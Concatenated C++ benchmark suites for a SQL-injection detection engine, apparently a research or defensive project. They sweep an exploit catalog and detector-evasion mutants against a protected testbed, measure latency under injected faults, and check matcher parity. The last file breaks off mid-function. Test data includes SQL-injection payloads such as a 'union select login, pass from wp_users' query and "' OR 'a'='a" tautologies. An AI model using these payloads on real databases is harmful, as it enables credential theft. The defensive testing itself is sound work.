// engine's detection counters exported exactly.
#include <string>
#include <vector>

#include "attack/catalog.h"
#include "attack/evasion.h"
#include "attack/exploit.h"
#include "attack/workload.h"
#include "benchkit/metrics.h"
#include "benchkit/suites.h"
#include "core/joza.h"
#include "http/request.h"
#include "nti/nti.h"
#include "util/stopwatch.h"

namespace joza::benchkit {

SuiteResult RunAttackHeavySuite(const SuiteOptions& options) {
  SuiteResult result("attack_heavy", options);

  // --- Phase 1: end-to-end catalog sweep ---------------------------------
  auto app = attack::MakeTestbed();
  core::Joza joza = core::Joza::Install(*app);
  app->SetQueryGate(joza.MakeGate());

  std::size_t variants = 0;
  std::size_t breaches = 0;
  std::size_t mutants = 0;
  std::vector<std::string> breached_names;
  for (const attack::PluginSpec& plugin : attack::PluginCatalog()) {
    const attack::Exploit original = attack::OriginalExploit(plugin);
    ++variants;
    if (attack::ExploitSucceeds(*app, plugin, original)) {
      ++breaches;
      breached_names.push_back(plugin.name + " (original)");
    }
    nti::NtiConfig reference;
    attack::NtiMutation mutation =
        attack::MutateForNtiEvasion(plugin, original, reference);
    if (mutation.possible) {
      ++variants;
      ++mutants;
      if (attack::ExploitSucceeds(*app, plugin, mutation.exploit)) {
        ++breaches;
        breached_names.push_back(plugin.name + " (NTI mutant)");
      }
    }
  }
  const core::JozaStats sweep_stats = joza.stats();
  for (const std::string& name : breached_names) {
    std::printf("BREACH: %s succeeded against the protected app\n",
                name.c_str());
  }

  Table sweep({"Catalog sweep", "Value"});
  sweep.AddRow({"exploit variants", std::to_string(variants)});
  sweep.AddRow({"NTI-evasion mutants", std::to_string(mutants)});
  sweep.AddRow({"successful breaches", std::to_string(breaches)});
  sweep.AddRow(
      {"attacks detected", std::to_string(sweep_stats.attacks_detected)});
  sweep.Print("Attack catalog, end-to-end vs protected testbed");

  result.AddExact("catalog.exploit_variants", static_cast<double>(variants));
  result.AddExact("catalog.nti_mutants", static_cast<double>(mutants));
  result.AddExact("catalog.breaches", static_cast<double>(breaches));
  result.AddExact("catalog.attacks_detected",
                  static_cast<double>(sweep_stats.attacks_detected));
  result.RequireEq("no exploit variant breaches the protected app",
                   "catalog.breaches", 0);
  result.RequireGe("the sweep actually exercised the catalog",
                   "catalog.exploit_variants", 53);

  // --- Phase 2: attack-heavy traffic mix ---------------------------------
  // Fresh engine so phase-2 counters are not polluted by the sweep.
  auto mix_app = attack::MakeTestbed();
  core::Joza mix_joza = core::Joza::Install(*mix_app);
  mix_app->SetQueryGate(mix_joza.MakeGate());

  std::vector<http::Request> stream;
  const std::size_t benign_count = options.quick ? 64 : 256;
  for (const attack::WorkloadRequest& wr :
       attack::MakeCrawlWorkload(benign_count, options.seed)) {
    stream.push_back(wr.request);
  }
  // Raw exploit requests (no transport encoding): every 4th request in the
  // served order hits a vulnerable route with an attack payload.
  std::vector<http::Request> exploits;
  for (const attack::PluginSpec* plugin : attack::TestbedPlugins()) {
    const attack::Exploit e = attack::OriginalExploit(*plugin);
    exploits.push_back(
        http::Request::Get(plugin->route, {{plugin->param, e.payload}}));
  }
  std::vector<http::Request> mixed;
  std::size_t ei = 0;
  for (std::size_t i = 0; i < stream.size(); ++i) {
    mixed.push_back(stream[i]);
    if (i % 3 == 2) mixed.push_back(exploits[ei++ % exploits.size()]);
  }

  LatencyRecorder recorder;
  Stopwatch watch;
  for (const http::Request& r : mixed) {
    Stopwatch per;
    mix_app->Handle(r);
    recorder.Record(per.ElapsedSeconds() * 1e3);
  }
  const double secs = watch.ElapsedSeconds();
  mix_app->SetQueryGate(nullptr);
  app->SetQueryGate(nullptr);

  const core::JozaStats mix_stats = mix_joza.stats();
  const LatencySummary lat = recorder.Summary();
  result.AddInfo("mix.qps", recorder.Qps(secs), "qps");
  result.AddLatency("mix.latency", lat);
  result.AddExact("mix.requests", static_cast<double>(mixed.size()));
  for (const auto& [name, value] : mix_stats.Counters()) {
    result.AddExact(std::string("mix.engine.") + name,
                    static_cast<double>(value));
  }
  result.RequireGe("attack-heavy mix triggers detections",
                   "mix.engine.attacks_detected", 1);

  Table mix_table({"Attack-heavy mix", "Value"});
  mix_table.AddRow({"requests", std::to_string(mixed.size())});
  mix_table.AddRow({"qps", Num(recorder.Qps(secs), 0)});
  mix_table.AddRow({"p50 ms", Num(lat.p50, 3)});
  mix_table.AddRow({"p99 ms", Num(lat.p99, 3)});
  mix_table.AddRow(
      {"attacks detected", std::to_string(mix_stats.attacks_detected)});
  mix_table.Print("Attack-heavy traffic mix (in-process)");
  return result;
}

}  // namespace joza::benchkit
