// degraded: QPS, tail latency and verdict safety of the protected gateway
// under injected PTI faults, migrated from the hand-rolled
// bench_fault_degraded main().
//
// Four phases, each driving the same engine over the wire with mixed
// benign + exploit traffic while the PTI daemon pool runs under a
// different fault regime:
//
//   healthy     — no faults armed; baseline QPS/p99.
//   hang 10%    — every ~10th analyze stalls its daemon; the pool must
//                 SIGKILL + replace within the per-call budget, so every
//                 request still completes inside the deadline budget.
//   outage      — every analyze hangs; the circuit breaker opens and the
//                 engine serves degraded fail-closed (error virtualization)
//                 at fast-reject speed.
//   recovery    — faults disarmed; after the cooldown the breaker's
//                 half-open probe closes it and verdicts flow again.
//
// Safety invariant gated in EVERY phase: no exploit response ever contains
// the testbed's secret marker (zero fail-open), and the breaker must cycle
// open and closed across the run.
//
// Each phase forks a fresh daemon pool: daemons inherit the injector's
// armed state at fork time, so rearming between phases only affects
// daemons forked afterwards.
#include <chrono>
#include <cstdio>
#include <memory>
#include <mutex>
#include <string>
#include <thread>
#include <vector>

#include "attack/catalog.h"
#include "attack/exploit.h"
#include "benchkit/metrics.h"
#include "benchkit/suites.h"
#include "core/joza.h"
#include "resilience/circuit_breaker.h"
#include "resilience/injector.h"
#include "gateway/client.h"
#include "gateway/gateway.h"
#include "ipc/daemon_pool.h"
#include "phpsrc/fragments.h"

namespace joza::benchkit {

namespace {

using namespace std::chrono_literals;

constexpr std::chrono::milliseconds kRequestDeadline{1000};
constexpr std::chrono::milliseconds kPerCallTimeout{150};
// A request is "over budget" past the deadline plus scheduling slack.
constexpr std::chrono::milliseconds kBudget{1500};

struct PhaseResult {
  double seconds = 0;
  double p50_ms = 0;
  double p99_ms = 0;
  std::size_t requests = 0;
  std::size_t transport_failures = 0;
  std::size_t fail_open = 0;    // exploit responses leaking the secret
  std::size_t over_budget = 0;  // requests slower than kBudget
  double qps() const { return seconds > 0 ? requests / seconds : 0; }
};

// Sequential driver: one keep-alive client, every 8th request an exploit
// against a data-channel plugin. Sequential on purpose — per-request
// latency then maps 1:1 onto the fault behaviour under test (a hang costs
// exactly its kill-and-retry budget, a breaker fast-reject costs ~nothing).
PhaseResult DrivePhase(int port, std::size_t requests,
                       const attack::PluginSpec& plugin,
                       const std::string& exploit_payload) {
  gateway::KeepAliveClient client(port);
  LatencyRecorder recorder;
  PhaseResult result;
  const auto start = std::chrono::steady_clock::now();
  for (std::size_t i = 0; i < requests; ++i) {
    const bool is_exploit = (i % 8) == 7;
    const auto t0 = std::chrono::steady_clock::now();
    StatusOr<webapp::SimpleResponse> response =
        is_exploit
            ? client.Send(http::Request::Get(
                  plugin.route, {{plugin.param, exploit_payload}}))
            : client.Get("/post?id=" + std::to_string(i % 50));
    const auto t1 = std::chrono::steady_clock::now();
    const double ms =
        std::chrono::duration<double, std::milli>(t1 - t0).count();
    recorder.Record(ms);
    if (ms > static_cast<double>(kBudget.count())) ++result.over_budget;
    if (!response.ok()) {
      ++result.transport_failures;
      continue;
    }
    if (is_exploit && response->body.find(attack::kSecretMarker) !=
                          std::string::npos) {
      ++result.fail_open;
    }
  }
  const auto end = std::chrono::steady_clock::now();
  result.seconds = std::chrono::duration<double>(end - start).count();
  result.requests = requests;
  const LatencySummary summary = recorder.Summary();
  result.p50_ms = summary.p50;
  result.p99_ms = summary.p99;
  return result;
}

std::unique_ptr<ipc::DaemonPool> FreshPool(const webapp::Application& proto) {
  ipc::DaemonPool::Options options;
  options.max_size = 2;
  options.per_call_timeout = kPerCallTimeout;
  return std::make_unique<ipc::DaemonPool>(
      php::FragmentSet::FromSources(proto.sources()), options);
}

// Concurrent flood for the overload phase: more clients than workers, so
// the connection queue backs up and the admission layer (deadline shedding
// + AIMD throttling) has real doomed work to refuse.
struct OverloadResult {
  std::size_t requests = 0;
  std::size_t served = 0;
  std::size_t refused = 0;    // 503 (queue overflow / deadline shed) + 429
  std::size_t transport_failures = 0;
  std::size_t fail_open = 0;
  double seconds = 0;
};

OverloadResult DriveOverload(int port, std::size_t clients,
                             std::size_t per_client,
                             const attack::PluginSpec& plugin,
                             const std::string& exploit_payload) {
  std::vector<std::thread> threads;
  std::mutex mu;
  OverloadResult total;
  const auto start = std::chrono::steady_clock::now();
  threads.reserve(clients);
  for (std::size_t c = 0; c < clients; ++c) {
    threads.emplace_back([&, c] {
      gateway::KeepAliveClient client(port);
      OverloadResult local;
      for (std::size_t i = 0; i < per_client; ++i) {
        const bool is_exploit = ((c + i) % 8) == 7;
        StatusOr<webapp::SimpleResponse> response =
            is_exploit
                ? client.Send(http::Request::Get(
                      plugin.route, {{plugin.param, exploit_payload}}))
                : client.Get("/post?id=" + std::to_string(i % 50));
        ++local.requests;
        if (!response.ok()) {
          ++local.transport_failures;
          continue;
        }
        if (response->status == 503 || response->status == 429) {
          ++local.refused;
        } else {
          ++local.served;
        }
        if (is_exploit && response->body.find(attack::kSecretMarker) !=
                              std::string::npos) {
          ++local.fail_open;
        }
      }
      std::lock_guard<std::mutex> lock(mu);
      total.requests += local.requests;
      total.served += local.served;
      total.refused += local.refused;
      total.transport_failures += local.transport_failures;
      total.fail_open += local.fail_open;
    });
  }
  for (std::thread& thread : threads) thread.join();
  total.seconds = std::chrono::duration<double>(
                      std::chrono::steady_clock::now() - start)
                      .count();
  return total;
}

}  // namespace

SuiteResult RunDegradedSuite(const SuiteOptions& options) {
  SuiteResult result("degraded", options);

  // Each /post request runs ~20 queries, so at hang rate 0.10 nearly every
  // request absorbs ~2 kill-and-retry budgets (~300 ms); 80 requests keeps
  // the hang phase under half a minute.
  const std::size_t requests = options.quick ? 40 : 80;

  auto proto = attack::MakeTestbed();
  // Caches off: every request must round-trip the PTI pool, otherwise the
  // fault regimes would mostly measure cache hits.
  core::JozaConfig cfg;
  cfg.query_cache = false;
  cfg.structure_cache = false;
  cfg.degraded_mode = core::DegradedMode::kFailClosed;
  cfg.breaker.failure_threshold = 5;
  cfg.breaker.cooldown = 200ms;
  core::Joza joza = core::Joza::Install(*proto, cfg);

  gateway::GatewayConfig gcfg;
  gcfg.workers = 2;
  gcfg.request_deadline = kRequestDeadline;
  gateway::GatewayServer server([] { return attack::MakeTestbed(); }, &joza,
                                gcfg);
  auto port = server.Start();
  if (!port.ok()) {
    std::fprintf(stderr, "gateway start failed: %s\n",
                 port.status().ToString().c_str());
    result.AddExact("setup.failed", 1);
    result.RequireEq("gateway starts", "setup.failed", 0);
    return result;
  }

  // Exploit traffic: the first data-channel plugin's public exploit.
  const attack::PluginSpec* target = nullptr;
  for (const attack::PluginSpec* plugin : attack::TestbedPlugins()) {
    if (plugin->mode == webapp::ResponseMode::kData) {
      target = plugin;
      break;
    }
  }
  if (target == nullptr) {
    std::fprintf(stderr, "no data-channel plugin in the catalog\n");
    result.AddExact("setup.failed", 1);
    result.RequireEq("catalog has a data-channel plugin", "setup.failed", 0);
    server.Stop();
    return result;
  }
  const std::string exploit = attack::OriginalExploit(*target).payload;

  auto& injector = resilience::FaultInjector::Global();
  injector.set_hang(5000ms);

  struct Phase {
    const char* name;
    const char* key;
    double hang_rate;  // < 0 leaves the injector disarmed
  };
  const Phase phases[] = {
      {"healthy", "healthy", -1.0},
      {"hang 10%", "hang10", 0.10},
      {"outage", "outage", 1.0},
      {"recovery", "recovery", -1.0},
  };

  Table table({"Phase", "QPS", "p50 ms", "p99 ms", "Fail-open",
               "Over-budget", "Degraded", "Breaker"});

  std::size_t total_fail_open = 0;
  std::size_t total_over_budget = 0;
  std::size_t total_transport_failures = 0;
  std::size_t prev_degraded = 0;
  for (const Phase& phase : phases) {
    injector.DisarmAll();
    if (phase.hang_rate >= 0) {
      injector.Arm(resilience::FaultPoint::kDaemonHang, phase.hang_rate);
    }
    // Fresh pool so this phase's daemons fork with this phase's regime.
    auto pool = FreshPool(*proto);
    joza.SetPtiBackend(pool->AsPtiBackend());
    // Give a post-outage breaker its cooldown, then let one warm request
    // run the half-open probe (and absorb pool spawn cost in every phase).
    std::this_thread::sleep_for(cfg.breaker.cooldown + 50ms);
    {
      gateway::KeepAliveClient warm(port.value());
      (void)warm.Get("/post?id=0");
    }

    const PhaseResult r = DrivePhase(port.value(), requests, *target, exploit);

    const core::JozaStats stats = joza.stats();
    const std::size_t degraded = stats.degraded_checks - prev_degraded;
    prev_degraded = stats.degraded_checks;
    total_fail_open += r.fail_open;
    total_over_budget += r.over_budget;
    total_transport_failures += r.transport_failures;
    table.AddRow({phase.name, Num(r.qps(), 1), Num(r.p50_ms, 2),
                  Num(r.p99_ms, 2), std::to_string(r.fail_open),
                  std::to_string(r.over_budget), std::to_string(degraded),
                  resilience::BreakerStateName(joza.breaker().state())});

    const std::string prefix = std::string("phase.") + phase.key;
    result.AddInfo(prefix + ".qps", r.qps(), "qps");
    result.AddInfo(prefix + ".p50_ms", r.p50_ms, "ms");
    result.AddInfo(prefix + ".p99_ms", r.p99_ms, "ms");
    result.AddInfo(prefix + ".degraded_checks", static_cast<double>(degraded),
                   "count");

    pool->Shutdown();
  }
  injector.DisarmAll();

  table.Print("Gateway under PTI faults (fail-closed degradation)");

  // -------------------------------------------------------------------------
  // Overload phase: concurrent flood against slow-PTI service. 10% hangs
  // keep each request slow WITHOUT tripping the breaker (failures are not
  // consecutive), so the queue backs up and the admission layer must shed.
  // The invariant under test: refusing doomed work is CHEAP — a shed
  // request costs microseconds of server time, not a worker's deadline.
  // -------------------------------------------------------------------------
  injector.Arm(resilience::FaultPoint::kDaemonHang, 0.10);
  auto overload_pool = FreshPool(*proto);
  joza.SetPtiBackend(overload_pool->AsPtiBackend());
  const gateway::GatewayStats before_overload = server.stats();

  const std::size_t flood_clients = 8;
  const std::size_t flood_per_client = options.quick ? 10 : 20;
  const OverloadResult overload = DriveOverload(
      port.value(), flood_clients, flood_per_client, *target, exploit);

  const gateway::GatewayStats after_overload = server.stats();
  const std::size_t shed_deadline =
      after_overload.shed_by_deadline - before_overload.shed_by_deadline;
  const std::size_t throttled =
      after_overload.throttled_by_limiter - before_overload.throttled_by_limiter;
  const std::size_t queue_rejects = after_overload.connections_rejected -
                                    before_overload.connections_rejected;
  const double shed_p99_ms =
      static_cast<double>(after_overload.shed_p99_us) / 1000.0;
  injector.DisarmAll();

  std::printf(
      "\noverload (%zu clients x %zu reqs): %zu served, %zu refused, "
      "%zu transport failures in %.1fs\n",
      flood_clients, flood_per_client, overload.served, overload.refused,
      overload.transport_failures, overload.seconds);
  std::printf(
      "admission:   %zu shed by deadline, %zu throttled (429), "
      "%zu queue rejects; shed p99 %.3f ms; AIMD limit %llu\n",
      shed_deadline, throttled, queue_rejects, shed_p99_ms,
      static_cast<unsigned long long>(after_overload.admission_limit));

  const ipc::DaemonPool::PoolStats overload_ps = overload_pool->stats();
  total_fail_open += overload.fail_open;
  overload_pool->Shutdown();

  result.AddInfo("overload.qps",
                 overload.seconds > 0
                     ? static_cast<double>(overload.requests) / overload.seconds
                     : 0,
                 "qps");
  result.AddInfo("overload.served", static_cast<double>(overload.served),
                 "count");
  result.AddInfo("overload.shed_by_deadline",
                 static_cast<double>(shed_deadline), "count");
  result.AddInfo("overload.throttled_429", static_cast<double>(throttled),
                 "count");
  result.AddInfo("overload.queue_rejects_503",
                 static_cast<double>(queue_rejects), "count");
  result.AddInfo("overload.admission_limit",
                 static_cast<double>(after_overload.admission_limit), "count");
  result.AddInfo("overload.service_estimate_us",
                 static_cast<double>(after_overload.service_estimate_us),
                 "us");
  // Resilience counters riding the same export: supervisor + hedge + retry
  // accounting of the overload pool.
  for (const auto& [name, value] : overload_ps.supervisor.Counters()) {
    result.AddInfo(std::string("overload.") + name,
                   static_cast<double>(value), "count");
  }
  result.AddInfo("overload.retries_denied",
                 static_cast<double>(overload_ps.retries_denied), "count");
  result.AddInfo("overload.hedges_launched",
                 static_cast<double>(overload_ps.hedges_launched), "count");
  result.AddInfo("overload.hedges_won",
                 static_cast<double>(overload_ps.hedges_won), "count");

  // Gates: overload must actually engage the admission layer, refusals must
  // be fast (server-side p99 of the shed path under 5 ms — the whole point
  // of shedding is that doomed work costs nothing), and the flood must not
  // break the zero-fail-open invariant (counted into safety.fail_open).
  result.AddExact("overload.sheds",
                  static_cast<double>(shed_deadline + throttled +
                                      queue_rejects) > 0
                      ? 1
                      : 0);
  result.RequireEq("overload engages admission control", "overload.sheds", 1);
  result.AddInfo("overload.shed_p99_ms", shed_p99_ms, "ms");
  result.RequireLe("shed requests are fast (p99 under 5 ms)",
                   "overload.shed_p99_ms", 5.0);

  const resilience::BreakerStats bs = joza.breaker().stats();
  const core::JozaStats js = joza.stats();
  std::printf(
      "\nbreaker transitions: %zu opens, %zu closes, %zu probes, "
      "%zu fast-rejects (final state %s)\n",
      bs.opens, bs.closes, bs.probes, js.breaker_fast_rejects,
      resilience::BreakerStateName(joza.breaker().state()));
  std::printf("engine: %zu checks, %zu pti failures, %zu degraded checks, "
              "%zu degraded blocks\n",
              js.queries_checked, js.pti_failures, js.degraded_checks,
              js.degraded_blocks);
  std::printf("safety: %zu fail-open responses, %zu over-budget requests "
              "(budget %lld ms)\n",
              total_fail_open, total_over_budget,
              static_cast<long long>(kBudget.count()));

  server.Stop();

  // Fault-phase counters depend on OS scheduling (which calls hang, how
  // many retries fire), so they are trajectory info, not exact-compared.
  result.AddInfo("breaker.opens", static_cast<double>(bs.opens), "count");
  result.AddInfo("breaker.closes", static_cast<double>(bs.closes), "count");
  result.AddInfo("breaker.probes", static_cast<double>(bs.probes), "count");
  result.AddInfo("engine.breaker_fast_rejects",
                 static_cast<double>(js.breaker_fast_rejects), "count");
  result.AddInfo("engine.pti_failures", static_cast<double>(js.pti_failures),
                 "count");
  result.AddInfo("engine.degraded_checks",
                 static_cast<double>(js.degraded_checks), "count");
  result.AddInfo("engine.degraded_blocks",
                 static_cast<double>(js.degraded_blocks), "count");
  result.AddInfo("safety.over_budget",
                 static_cast<double>(total_over_budget), "count");
  result.AddInfo("safety.transport_failures",
                 static_cast<double>(total_transport_failures), "count");

  // The safety invariants ARE deterministic: fail-closed degradation must
  // never leak the secret, and the outage/recovery phases must drive one
  // full breaker cycle.
  result.AddExact("safety.fail_open", static_cast<double>(total_fail_open));
  result.RequireEq("zero fail-open responses under faults",
                   "safety.fail_open", 0);
  result.RequireGe("breaker opened during the outage", "breaker.opens", 1);
  result.RequireGe("breaker closed again after recovery", "breaker.closes",
                   1);
  return result;
}

}  // namespace joza::benchkit
