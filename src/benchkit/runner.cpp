#include "benchkit/runner.h"

#include <cstdio>
#include <cstdlib>
#include <cstring>

#include "benchkit/compare.h"
#include "benchkit/registry.h"

namespace joza::benchkit {

int RunSuiteAndReport(const std::string& suite_name,
                      const RunnerOptions& options) {
  const SuiteSpec* spec = FindSuite(suite_name);
  if (spec == nullptr) {
    std::fprintf(stderr, "unknown suite '%s'; available:\n",
                 suite_name.c_str());
    for (const SuiteSpec& s : Suites()) {
      std::fprintf(stderr, "  %-12s %s\n", s.name.c_str(),
                   s.description.c_str());
    }
    return 2;
  }

  std::printf("suite %s (seed %llu%s)\n", spec->name.c_str(),
              static_cast<unsigned long long>(options.suite.seed),
              options.suite.quick ? ", quick" : "");
  SuiteResult result = spec->fn(options.suite);
  result.meta() = CollectRunMetadata();

  std::printf("\n--- gates: %s ---\n", spec->name.c_str());
  const bool gates_ok = result.ReportGates();

  if (!options.out_path.empty()) {
    if (Status st = WriteJsonFile(options.out_path, result.ToJson());
        !st.ok()) {
      std::fprintf(stderr, "failed to write %s: %s\n",
                   options.out_path.c_str(), st.ToString().c_str());
      return 2;
    }
    std::printf("wrote %s\n", options.out_path.c_str());
  }

  bool baseline_ok = true;
  if (!options.baseline_path.empty()) {
    std::printf("\n--- baseline: %s ---\n", options.baseline_path.c_str());
    Comparison cmp = CompareToBaselineFile(options.baseline_path, result);
    baseline_ok = cmp.Report();
    if (!options.check_baseline) {
      // Informational diff only; do not fail the run on it.
      baseline_ok = true;
    }
  }

  if (!gates_ok) {
    std::fprintf(stderr, "suite %s: gate failure (see the gate FAIL lines "
                 "above for the offending metric and threshold)\n",
                 spec->name.c_str());
  }
  if (!baseline_ok) {
    std::fprintf(stderr, "suite %s: baseline regression (see the "
                 "REGRESSION lines above)\n",
                 spec->name.c_str());
  }
  return gates_ok && baseline_ok ? 0 : 1;
}

int LegacyGateMain(const std::string& suite_name, int argc, char** argv) {
  RunnerOptions options;
  for (int i = 1; i < argc; ++i) {
    if (std::strcmp(argv[i], "--seed") == 0 && i + 1 < argc) {
      options.suite.seed = std::strtoull(argv[++i], nullptr, 10);
    } else if (std::strcmp(argv[i], "--quick") == 0) {
      options.suite.quick = true;
    } else {
      std::fprintf(stderr,
                   "usage: %s [--seed N] [--quick]\n"
                   "(legacy gate wrapper for `joza_bench --suite %s`)\n",
                   argv[0], suite_name.c_str());
      return 2;
    }
  }
  return RunSuiteAndReport(suite_name, options);
}

}  // namespace joza::benchkit
