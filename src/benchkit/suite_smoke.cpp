// smoke: the CI-gating suite, migrated from the hand-rolled
// bench_ablation_match main().
//
// Phase 1 (PTI, informational): Aho-Corasick vs the paper's per-fragment
// scan as the vocabulary grows.
// Phase 2 (NTI, gated): the staged matcher pipeline vs the bounded and
// reference Sellers tiers on a benign many-input workload — staged must
// deliver >= 2x the reference tier's throughput, and no tier may flag the
// benign workload.
// Phase 3 (parity, gated): staged vs reference full-result equality over
// the attack catalog (originals + NTI evasions) and a randomized corpus at
// several thresholds — zero differences allowed.
// Phase 4 (engine): a seeded benign mix served through the full engine
// in-process for QPS/p50/p95/p99 and the per-stage JozaStats counters.
//
// Stage counters and parity results are deterministic for a fixed seed and
// are compared exactly against the committed baseline; throughput and
// latency are machine-dependent and recorded as trajectory info only.
#include <chrono>
#include <optional>
#include <string>
#include <vector>

#include "attack/catalog.h"
#include "attack/evasion.h"
#include "attack/exploit.h"
#include "attack/workload.h"
#include "benchkit/metrics.h"
#include "benchkit/serve.h"
#include "benchkit/suites.h"
#include "core/joza.h"
#include "http/request.h"
#include "nti/nti.h"
#include "phpsrc/fragments.h"
#include "pti/pti.h"
#include "sqlparse/critical.h"
#include "sqlparse/lexer.h"
#include "util/rng.h"
#include "util/stopwatch.h"
#include "webapp/application.h"

namespace joza::benchkit {

namespace {

// --- Phase 1: PTI fragment matching --------------------------------------

php::FragmentSet MakeVocabulary(std::size_t extra_fragments,
                                std::uint64_t seed) {
  auto app = attack::MakeTestbed();
  php::FragmentSet set = php::FragmentSet::FromSources(app->sources());
  Rng rng(seed);
  for (std::size_t i = 0; i < extra_fragments; ++i) {
    set.AddRaw("SELECT " + rng.NextToken(8) + " FROM " + rng.NextToken(8) +
               " WHERE " + rng.NextToken(6) + " = ");
  }
  return set;
}

void PtiAblation(SuiteResult& result, const SuiteOptions& options) {
  const char* kBenignQuery = "SELECT title, views FROM wp_posts WHERE id = 7";
  const char* kAttackQuery =
      "SELECT title, views FROM wp_posts WHERE id = -1 "
      "union select login, pass from wp_users";

  struct Variant {
    const char* name;
    const char* metric;
    bool aho_corasick;
    bool parse_first;
    std::size_t mru;
  };
  const Variant kVariants[] = {
      {"aho-corasick", "aho", true, false, 0},
      {"scan+mru+parse-first", "scan_mru", false, true, 64},
      {"naive scan", "naive", false, false, 0},
  };

  Table table({"PTI matcher", "Vocabulary", "us/query"});
  for (std::size_t extra : {std::size_t{100}, std::size_t{1600}}) {
    php::FragmentSet vocab = MakeVocabulary(extra, options.seed + 42);
    for (const Variant& v : kVariants) {
      pti::PtiConfig cfg;
      cfg.use_aho_corasick = v.aho_corasick;
      cfg.parse_first = v.parse_first;
      cfg.mru_size = v.mru;
      pti::PtiAnalyzer pti(vocab, cfg);
      const int kIters = options.quick ? 40 : 200;
      int detected = 0;
      Stopwatch watch;
      for (int i = 0; i < kIters; ++i) {
        detected += pti.Analyze(kBenignQuery).attack_detected ? 1 : 0;
        detected += pti.Analyze(kAttackQuery).attack_detected ? 1 : 0;
      }
      const double secs = watch.ElapsedSeconds();
      if (detected != kIters) {
        std::printf("PTI ablation sanity failed: %d/%d attack verdicts\n",
                    detected, kIters);
      }
      const double us = secs / (2.0 * kIters) * 1e6;
      result.AddInfo("pti." + std::string(v.metric) + ".v" +
                         std::to_string(extra) + ".us_per_query",
                     us, "us");
      table.AddRow({v.name, std::to_string(vocab.size()), Num(us, 2)});
    }
  }
  table.Print("Ablation: PTI fragment matching");
}

// --- Phase 2: NTI matcher tiers ------------------------------------------

struct NtiSample {
  std::string query;
  std::vector<http::Input> inputs;     // owned storage
  std::vector<http::InputView> views;  // borrows from `inputs`
  std::vector<sql::Token> critical;
};

// Benign (query, inputs) pairs harvested from the workload generators,
// widened with extra benign inputs so every check is many-input (the shape
// the multi-pattern exact stage is built for).
std::vector<NtiSample> HarvestBenignSamples(std::size_t extra_inputs,
                                            std::uint64_t seed) {
  auto app = attack::MakeTestbed();
  std::vector<NtiSample> samples;
  std::vector<attack::WorkloadRequest> reqs;
  for (auto& w : attack::MakeCrawlWorkload(60, seed)) reqs.push_back(w);
  for (auto& w : attack::MakeCommentWorkload(40, seed + 1)) reqs.push_back(w);
  for (auto& w : attack::MakeSearchWorkload(40, seed + 2)) reqs.push_back(w);
  for (const auto& wr : reqs) {
    app->SetQueryGate([&](std::string_view sql, const http::Request& r) {
      samples.push_back({std::string(sql), r.AllInputs(), {}, {}});
      return webapp::GateDecision{};
    });
    app->Handle(wr.request);
  }
  app->SetQueryGate(nullptr);

  Rng rng(seed + 7);
  for (NtiSample& s : samples) {
    for (std::size_t i = 0; i < extra_inputs; ++i) {
      s.inputs.push_back({http::InputKind::kHeader, "x-" + rng.NextToken(4),
                          rng.NextToken(5 + rng.NextBelow(18))});
    }
    s.views = http::ViewsOf(s.inputs);
    s.critical = sql::CriticalTokens(sql::Lex(s.query), false);
  }
  return samples;
}

struct TierRun {
  double checks_per_sec = 0.0;
  std::size_t attacks = 0;
  nti::NtiResult totals;  // summed diagnostics
};

TierRun RunTier(nti::MatchTier tier, const std::vector<NtiSample>& samples,
                int passes) {
  nti::NtiConfig cfg;
  cfg.tier = tier;
  const nti::NtiAnalyzer analyzer(cfg);
  TierRun run;
  // Warmup pass (also collects the per-input diagnostics once).
  for (const NtiSample& s : samples) {
    nti::NtiResult r = analyzer.AnalyzeCritical(s.query, s.critical, s.views);
    run.totals.exact_hits += r.exact_hits;
    run.totals.seed_rejects += r.seed_rejects;
    run.totals.seed_candidates += r.seed_candidates;
    run.totals.kernel_rejects += r.kernel_rejects;
    run.totals.dp_runs += r.dp_runs;
    run.totals.tier_reference += r.tier_reference;
    run.totals.tier_bounded += r.tier_bounded;
    run.totals.tier_staged += r.tier_staged;
  }
  Stopwatch watch;
  for (int p = 0; p < passes; ++p) {
    for (const NtiSample& s : samples) {
      if (analyzer.AnalyzeCritical(s.query, s.critical, s.views)
              .attack_detected) {
        ++run.attacks;
      }
    }
  }
  const double secs = watch.ElapsedSeconds();
  run.checks_per_sec =
      static_cast<double>(samples.size()) * passes / (secs > 0 ? secs : 1e-9);
  return run;
}

// --- Phase 3: staged vs reference parity ---------------------------------

bool SameOutcome(const nti::NtiResult& a, const nti::NtiResult& b) {
  if (a.attack_detected != b.attack_detected) return false;
  if (a.markings.size() != b.markings.size()) return false;
  for (std::size_t i = 0; i < a.markings.size(); ++i) {
    const nti::TaintMarking& ma = a.markings[i];
    const nti::TaintMarking& mb = b.markings[i];
    if (ma.span.begin != mb.span.begin || ma.span.end != mb.span.end ||
        ma.distance != mb.distance || ma.input_name != mb.input_name) {
      return false;
    }
  }
  if (a.tainted_critical_tokens.size() != b.tainted_critical_tokens.size()) {
    return false;
  }
  for (std::size_t i = 0; i < a.tainted_critical_tokens.size(); ++i) {
    const sql::Token& ta = a.tainted_critical_tokens[i];
    const sql::Token& tb = b.tainted_critical_tokens[i];
    if (ta.span.begin != tb.span.begin || ta.span.end != tb.span.end) {
      return false;
    }
  }
  return true;
}

struct ParityCase {
  std::string query;
  std::vector<http::Input> inputs;
};

std::vector<ParityCase> CatalogCases() {
  std::vector<ParityCase> cases;
  for (const attack::PluginSpec& p : attack::PluginCatalog()) {
    attack::Exploit orig = attack::OriginalExploit(p);
    cases.push_back({attack::QueryFor(p, orig.payload),
                     attack::InputsFor(p, orig.payload)});
    nti::NtiConfig reference;
    attack::NtiMutation m = attack::MutateForNtiEvasion(p, orig, reference);
    if (m.possible) {
      cases.push_back({attack::QueryFor(p, m.exploit.payload),
                       attack::InputsFor(p, m.exploit.payload)});
    }
  }
  return cases;
}

std::vector<ParityCase> RandomCases(std::uint64_t seed, int count) {
  static const char* kTemplates[] = {
      "SELECT a FROM t WHERE x = ",
      "SELECT a FROM t WHERE s = 'v' AND x = ",
      "UPDATE t SET a = 1 WHERE k = ",
  };
  static const char* kPayloads[] = {
      "1 OR 1=1", "9", "abc", "1 UNION SELECT x", "zz' OR 'a'='a",
  };
  Rng rng(seed);
  std::vector<ParityCase> cases;
  for (int i = 0; i < count; ++i) {
    std::string payload;
    if (rng.NextBool(0.5)) {
      payload = kPayloads[rng.NextBelow(std::size(kPayloads))];
      if (rng.NextBool(0.5) && !payload.empty()) {
        payload.insert(rng.NextBelow(payload.size()), 1,
                       static_cast<char>('a' + rng.NextBelow(26)));
      }
    } else {
      payload = rng.NextToken(1 + rng.NextBelow(12));
    }
